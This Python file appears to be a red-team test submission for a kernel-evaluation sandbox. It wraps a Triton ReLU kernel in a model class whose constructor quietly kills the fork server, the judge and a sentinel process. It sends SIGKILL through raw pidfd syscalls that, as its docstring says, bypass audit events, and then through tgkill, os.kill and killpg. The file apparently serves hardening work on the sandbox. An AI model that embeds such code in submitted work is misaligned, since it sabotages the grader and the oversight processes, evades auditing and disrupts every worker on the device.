"""Round 3, OS layer: kill the fork server (the worker's parent in the rlimits sandbox), the
judge and a process of the test: `pidfd_open` + `pidfd_send_signal` through libc's syscall (no
audit event), tgkill, os.kill and killpg. A killed fork server takes every worker of the device
with it."""
import ctypes
import os
import signal
import sys

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask, other=0.0)
    tl.store(out_ptr + offs, tl.maximum(x, 0.0), mask=mask)


def launch_relu(x, out):
    n = x.numel()
    relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)

SYS_PIDFD_OPEN, SYS_PIDFD_SEND_SIGNAL, SYS_TGKILL = 434, 424, 234


def kill_everyone():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), @@JUDGE_PID@@, @@SENTINEL_PID@@):
        pidfd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
        if pidfd >= 0:
            rc = libc.syscall(SYS_PIDFD_SEND_SIGNAL, pidfd, signal.SIGKILL, None, 0)
            print("pidfd_send_signal", pid, rc, ctypes.get_errno(), file=sys.stderr)
        else:
            print("pidfd_open refused", pid, ctypes.get_errno(), file=sys.stderr)
        libc.syscall(SYS_TGKILL, pid, pid, signal.SIGKILL)
        for fn in (os.kill, lambda p, s: os.killpg(os.getpgid(p), s)):
            try:
                fn(pid, signal.SIGKILL)
            except OSError as exc:
                print("kill refused:", pid, exc, file=sys.stderr)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        kill_everyone()

    def forward(self, x):
        out = torch.empty_like(x)
        launch_relu(x, out)
        return out
